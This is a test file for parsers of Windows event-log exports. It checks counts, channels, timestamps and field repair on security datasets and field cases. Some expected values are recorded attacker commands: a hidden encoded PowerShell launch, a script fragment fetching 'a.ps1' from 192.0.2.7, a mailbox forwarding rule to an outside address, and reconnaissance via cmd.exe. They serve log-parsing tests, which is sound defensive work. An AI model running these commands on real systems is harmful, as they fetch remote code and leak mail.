// The export readers on the public corpus and the field cases, read in place: row
// counts, channels and event ids against ground-truth.json, exact values where the
// field cases state them, and the OTRF JSON lines inside the bundle zips.

import { spawn } from 'node:child_process';
// biome-ignore lint/style/noRestrictedImports: the test reads corpus files in place; the readers themselves stay pure
import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { corpusFile, corpusSkipReason, fieldCase, fieldCasesSkipReason, hasCorpus, hasFieldCases } from '../../../test/paths.ts';
import { normalizeWindows } from '../../normalize/windows.ts';
import { ExportTextDecoder } from './decode.ts';
import { detectWinExport, readWinExport, WinExportReader } from './reader.ts';
import type { WinExportEvent } from './types.ts';

interface ExportTruth {
  rows: number;
  channels?: Record<string, number>;
  eventid_top10?: [number, number][];
  eventids?: [string, number][];
  eventid?: number;
}

const truth: Record<string, ExportTruth> = hasCorpus ? JSON.parse(readFileSync(corpusFile('ground-truth.json'), 'utf8')).evtx_exports : {};

function readFile(path: string) {
  return readWinExport(readFileSync(path, 'utf8'), { name: path });
}

function histogram(values: (string | number | null)[]): Map<string, number> {
  const counts = new Map<string, number>();
  for (const value of values) counts.set(String(value), (counts.get(String(value)) ?? 0) + 1);
  return counts;
}

/** Extracts one zip member with Info-ZIP's `unzip -p` and streams it through the reader. */
async function readZipMember(
  zip: string,
  onHead?: (head: string) => void,
): Promise<{ events: WinExportEvent[]; reader: WinExportReader | null }> {
  const child = spawn('unzip', ['-p', zip], { stdio: ['ignore', 'pipe', 'inherit'] });
  const decoder = new ExportTextDecoder();
  let reader: WinExportReader | null = null;
  let pending = '';
  const events: WinExportEvent[] = [];
  for await (const chunk of child.stdout) {
    const text = decoder.decode(chunk as Buffer);
    if (!reader) {
      pending += text;
      if (pending.length < 65536) continue;
      onHead?.(pending);
      const kind = detectWinExport(pending.slice(0, 65536), zip);
      if (!kind) throw new Error(`${zip}: not detected as a Windows export`);
      reader = new WinExportReader(kind);
      events.push(...reader.push(pending));
      pending = '';
      continue;
    }
    // Keep only the fields the test checks, so memory stays flat on the 106 MB member.
    for (const event of reader.push(text)) events.push(slim(event));
  }
  if (!reader && pending !== '') {
    onHead?.(pending);
    const kind = detectWinExport(pending, zip);
    if (!kind) throw new Error(`${zip}: not detected as a Windows export`);
    reader = new WinExportReader(kind);
    events.push(...reader.push(pending));
  }
  if (reader) events.push(...reader.push(decoder.end()), ...reader.end());
  return { events, reader };
}

function slim(event: WinExportEvent): WinExportEvent {
  return { ...event, eventData: null, userData: null, envelope: [], rendering: null };
}

describe.skipIf(!hasCorpus)('corpus exports', () => {
  if (!hasCorpus) it.skip(corpusSkipReason, () => {});

  it('covers every export in the ground truth', () => {
    expect(Object.keys(truth).sort()).toEqual([
      'evtx-exports/elastic-beats/1102.evtx.golden.json',
      'evtx-exports/elastic-beats/application-windows-error-reporting.xml',
      'evtx-exports/otrf-security-datasets/WindowsEvents.json',
      'evtx-exports/otrf-security-datasets/covenant_copy_smb_CreateRequest_2020-09-22145302.json',
      'evtx-exports/otrf-security-datasets/psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json',
      'evtx-exports/sigma-regression/271de298-cc0e-4842-acd8-079a0a99ea65.json',
    ]);
  });

  for (const [relative, expected] of Object.entries(truth)) {
    it(`reads ${relative.split('/').pop()}`, () => {
      const result = readFile(corpusFile(relative));
      expect(result.skipped).toBe(0);
      expect(result.issues.filter((issue) => issue.severity === 'error')).toEqual([]);
      expect(result.events).toHaveLength(expected.rows);
      const ids = histogram(result.events.map((event) => event.system.eventId));
      for (const [id, count] of expected.eventid_top10 ?? []) expect([id, ids.get(String(id))]).toEqual([id, count]);
      for (const [id, count] of expected.eventids ?? []) expect([id, ids.get(id)]).toEqual([id, count]);
      if (expected.eventid !== undefined) expect(result.events[0]!.system.eventId).toBe(expected.eventid);
      for (const event of result.events) expect(() => normalizeWindows(event)).not.toThrow();
    });
  }

  it('keeps the raw channel names of the OTRF files', () => {
    const covenant = readFile(corpusFile('evtx-exports/otrf-security-datasets/covenant_copy_smb_CreateRequest_2020-09-22145302.json'));
    expect(Object.fromEntries(histogram(covenant.events.map((event) => event.system.channel)))).toEqual(
      truth['evtx-exports/otrf-security-datasets/covenant_copy_smb_CreateRequest_2020-09-22145302.json']!.channels,
    );
    const lsass = readFile(corpusFile('evtx-exports/otrf-security-datasets/psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json'));
    expect(Object.fromEntries(histogram(lsass.events.map((event) => event.system.channel)))).toEqual(
      truth['evtx-exports/otrf-security-datasets/psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json']!.channels,
    );
    // Sentinel's Event table has no Channel column: its EventLog gives the channel of 2 of the 3.
    const sentinel = readFile(corpusFile('evtx-exports/otrf-security-datasets/WindowsEvents.json'));
    expect(Object.fromEntries(histogram(sentinel.events.map((event) => event.system.channel)))).toEqual({
      Security: 35,
      Application: 1,
      'Microsoft-Windows-Sysmon/Operational': 1,
      null: 1,
    });
  });

  it('maps the Winlogbeat 1102 with its user data', () => {
    const event = readFile(corpusFile('evtx-exports/elastic-beats/1102.evtx.golden.json')).events[0]!;
    expect(event.shape).toBe('winlogbeat');
    expect(event.system).toMatchObject({ eventId: 1102, channel: 'Security', recordId: 14224n, processId: 1144, threadId: 1824 });
    expect(event.system.timeCreated).toEqual({ micros: 1573122869055919n, nanos: 600 });
    const unified = normalizeWindows(event);
    expect(unified.message).toBe('Security log cleared by WLBEAT\\Administrator');
    expect(unified.user_sid).toBe('S-1-5-21-101361758-2486510592-3018839910-500');
  });

  it('keeps the 23 Data items of the Winlogbeat XML', () => {
    const event = readFile(corpusFile('evtx-exports/elastic-beats/application-windows-error-reporting.xml')).events[0]!;
    expect(event.eventData).toHaveLength(23);
    expect(event.eventData![0]).toEqual({ name: null, value: '' });
    expect(event.eventData![2]).toEqual({ name: null, value: 'WindowsWcpOtherFailure3' });
    expect(event.eventData![15]!.value).toMatch(/^\r\n\\\\\?\\C:\\Windows\\Logs\\CBS\\CBS\.log\r\n/);
    expect(event.system.timeCreated).toEqual({ micros: 1581994357121198n, nanos: 600 });
  });

  it('flags the zone-less OTRF times', () => {
    const lsass = readFile(corpusFile('evtx-exports/otrf-security-datasets/psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json'));
    expect(lsass.events.every((event) => event.system.timeCreated?.note === 'no-zone')).toBe(true);
    const covenant = readFile(corpusFile('evtx-exports/otrf-security-datasets/covenant_copy_smb_CreateRequest_2020-09-22145302.json'));
    const first = covenant.events[0]!;
    expect(first.system.timeCreated).toEqual({ micros: BigInt(Date.UTC(2020, 8, 22, 18, 53, 1)) * 1000n, nanos: 0 });
  });
});

const bundles = [
  {
    zip: 'bundles/otrf-log4shell-java-serialized/sysmon_log4shell_cve2021_44228_java_serialized_object.zip',
    member: 'sysmon_log4shell_cve2021_44228_java_serialized_object_2022-05-13045800.json',
  },
  {
    zip: 'bundles/otrf-log4shell-java-serialized/securityauditing_log4shell_cve2021_44228_java_serialized_object.zip',
    member: 'securityauditing_log4shell_cve2021_44228_java_serialized_object_2022-05-13045400.json',
  },
  {
    zip: 'bundles/otrf-lsass-campaign-01/metasploit_logonpasswords_lsass_memory_dump.zip',
    member: 'metasploit_logonpasswords_lsass_memory_dump.json',
  },
];

describe.skipIf(!hasCorpus)('OTRF bundle members', () => {
  const members: Record<string, { rows: number; channels: Record<string, number> }> = hasCorpus
    ? JSON.parse(readFileSync(corpusFile('ground-truth.json'), 'utf8')).bundles.members.json_event_files
    : {};

  for (const { zip, member } of bundles) {
    it.skipIf(!existsSync(corpusFile(zip)))(`streams ${member}`, async () => {
      const { events, reader } = await readZipMember(corpusFile(zip));
      expect(reader?.kind).toBe('json-lines');
      expect(reader?.skipped).toBe(0);
      expect(events).toHaveLength(members[member]!.rows);
      expect(Object.fromEntries(histogram(events.map((event) => event.system.channel)))).toEqual(members[member]!.channels);
      expect(events.filter((event) => event.system.timeCreated === null)).toEqual([]);
    });
  }

  it('maps the Sentinel WindowsEvent JSON data of the log4shell Sysmon member', async () => {
    const { events } = await readZipMember(corpusFile(bundles[0]!.zip));
    const network = events.find((event) => event.system.eventId === 3 && event.eventData !== null)!;
    const unified = normalizeWindows(network);
    expect(unified.category).toBe('network');
    expect(unified.src_ip).toBe('192.168.3.5');
    expect(unified.dst_port).toBe(8080);
  });
});

describe.skipIf(!hasFieldCases)('field cases', () => {
  if (!hasFieldCases) it.skip(fieldCasesSkipReason, () => {});

  it('repairs raw & and control characters in an XML export', () => {
    const path = fieldCase('B09_xml_export_raw_amp_and_control_chars.xml');
    const result = readFile(path);
    expect(result.events).toHaveLength(3);
    const [policy, logon, pnp] = result.events as [WinExportEvent, WinExportEvent, WinExportEvent];
    const value = (event: WinExportEvent, name: string) => event.eventData?.find((item) => item.name === name)?.value;
    expect(value(policy, 'LockoutObservationWindow')).toBe('\u0003');
    expect(value(policy, 'MinPasswordLength')).toBe('\u0003');
    expect(value(logon, 'TargetUserName')).toBe('MS4\u001e$');
    expect(value(logon, 'LogonProcessName')).toBe('IKE\u001b');
    expect(value(logon, 'WorkstationName')).toBe('line1\r\nline2');
    expect(value(pnp, 'DeviceInstanceId')).toBe('FDC\\GENERIC_FLOPPY_DRIVE\\6&2bc13940&0&0');
    expect(value(pnp, 'Url')).toBe('https://lic.example/v7.0/licenses/?beneficiaryId=msa%3a985&contentId=eee5&market=US');
    expect(value(pnp, 'UrlEscaped')).toBe('https://lic.example/?a=1&b=2');
    const repairs = result.issues.filter((issue) => issue.column !== undefined);
    expect(repairs.map((issue) => issue.line)).toEqual([3, 3, 4, 4, 6, 6, 6, 6, 6]);
    expect(repairs.every((issue) => issue.column! > 0)).toBe(true);
    expect(normalizeWindows(logon).message).toBe('Logon type 3 (Network): WORKGROUP\\MS4\\x1e$ (workstation line1\\nline2)');
  });

  it('keeps unnamed Data by position in an XML export', () => {
    const result = readFile(fieldCase('B10_unnamed_data_elements.xml'));
    const [engine, exchange] = result.events as [WinExportEvent, WinExportEvent];
    expect(engine.system.eventId).toBe(400);
    expect(engine.system.qualifiers).toBe(0);
    expect(engine.eventData).toHaveLength(3);
    expect(engine.eventData![2]!.value).toContain('\tHostApplication=powershell.exe -nop -w hidden -enc SQBFAFgA\r\n');
    expect(exchange.eventData!.map((item) => item.value)).toEqual([
      'Set-Mailbox',
      '-Identity "Administrator" -ForwardingSmtpAddress "smtp:x@example.org"',
      '',
      '5',
      '',
      'False',
    ]);
    expect(normalizeWindows(engine).process_command_line).toBe('powershell.exe -nop -w hidden -enc SQBFAFgA');
  });

  it('keeps all three Data keys of a Hayabusa line', () => {
    const result = readFile(fieldCase('B10_duplicate_keys.jsonl'));
    const event = result.events[0]!;
    expect(event.system.eventId).toBe(400);
    expect(event.eventData!.map((item) => item.value)).toHaveLength(3);
    expect(event.eventData![0]).toEqual({ name: null, value: 'Available' });
    expect(event.eventData![1]).toEqual({ name: null, value: 'None' });
    expect(result.issues).toEqual([
      expect.objectContaining({ severity: 'warning', message: expect.stringContaining('"Data" appears 3 times') }),
    ]);
    expect(normalizeWindows(event).process_command_line).toBe('powershell.exe -nop -w hidden -enc SQBFAFgA');
  });

  it('normalises the evtx_dump EventID shapes', () => {
    const events = readFile(fieldCase('B10_evtx_dump_shapes.jsonl')).events;
    expect(events.map((event) => [event.system.eventId, event.system.qualifiers])).toEqual([
      [1, 16384],
      [6009, 32768],
      [4688, null],
    ]);
    expect(events[0]!.eventData).toHaveLength(6);
    expect(events[0]!.eventData![2]).toEqual({ name: null, value: '' });
    expect(events[2]!.eventData!.find((item) => item.name === 'TokenElevationType')?.value).toBe('%%1936');
  });

  it('resolves record 5101 to the same instant with each precision', () => {
    const a = readFile(fieldCase('B12a_evtxecmd_like_7digit_no_zone.csv'));
    const b = readFile(fieldCase('B12b_hayabusa_like_local_offset_and_iso.csv'));
    const c = readFile(fieldCase('B12c_evtx_dump_like_microseconds.jsonl'));
    expect(a.events).toHaveLength(2);
    expect(b.events).toHaveLength(2);
    expect(c.events).toHaveLength(1);
    expect(a.events[0]!.system.timeCreated).toEqual({ micros: 1683099403911646n, nanos: 800, note: 'no-zone' });
    expect(a.events[1]!.system.timeCreated).toEqual({ micros: 1683099403911646n, nanos: 900, note: 'no-zone' });
    expect(b.events[0]!.system.timeCreated).toEqual({ micros: 1683099403911000n, nanos: 0 });
    expect(b.events[1]!.system.timeCreated).toEqual({ micros: 1683099403911646n, nanos: 900 });
    expect(c.events[0]!.system.timeCreated).toEqual({ micros: 1683099403911646n, nanos: 0 });
    const keys = [a.events[0]!, b.events[0]!, c.events[0]!].map((event) => [
      event.system.computer,
      event.system.channel,
      event.system.recordId,
    ]);
    expect(keys).toEqual([
      ['WKS01.corp.example', 'Security', 5101n],
      ['WKS01.corp.example', 'Security', 5101n],
      ['WKS01.corp.example', 'Security', 5101n],
    ]);
    const executable = a.events[0]!.envelope.find((field) => field.name === 'ExecutableInfo')?.value;
    expect(executable).toBe('"C:\\Windows\\System32\\cmd.exe" /c "whoami & hostname"\r\nsecond line');
  });

  it('reads the split 4104 script blocks', () => {
    const events = readFile(fieldCase('B13_ps4104_split_script_blocks.jsonl')).events;
    expect(events.map((event) => event.system.recordId)).toEqual([1002n, 1001n, 1004n, 1003n, 1005n]);
    expect(events[1]!.eventData!.find((item) => item.name === 'ScriptBlockText')?.value).toBe("$u='http://192.0.2.7/a.ps1'\n$x=1; IE");
  });

  it('flags the corrupt record times as implausible', () => {
    const result = readFile(fieldCase('B25_evtx_dump_like_corrupt_record_times.jsonl'));
    expect(result.events).toHaveLength(5);
    const notes = result.events.map((event) => [event.system.recordId, event.system.timeCreated?.note ?? null]);
    expect(notes).toEqual([
      [25854n, null],
      [25855n, 'implausible'],
      [25856n, null],
      [25857n, 'implausible'],
      [25858n, null],
    ]);
    const plausible = result.events
      .filter((event) => event.system.timeCreated?.note === undefined)
      .map((event) => event.system.timeCreated!.micros);
    const sorted = [...plausible].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
    expect(sorted[0]).toBe(BigInt(Date.UTC(2022, 7, 29, 4, 4, 39, 512)) * 1000n);
    expect(sorted.at(-1)).toBe(BigInt(Date.UTC(2022, 8, 1, 23, 1, 57, 661)) * 1000n);
    expect(result.issues.map((issue) => issue.line)).toEqual([2, 4]);
  });

  it('leaves the timeline CSV to another reader', () => {
    const text = readFileSync(fieldCase('B25_timeline_csv_ambiguous_times.csv'), 'utf8');
    expect(detectWinExport(text, 'B25_timeline_csv_ambiguous_times.csv')).toBeNull();
  });
});
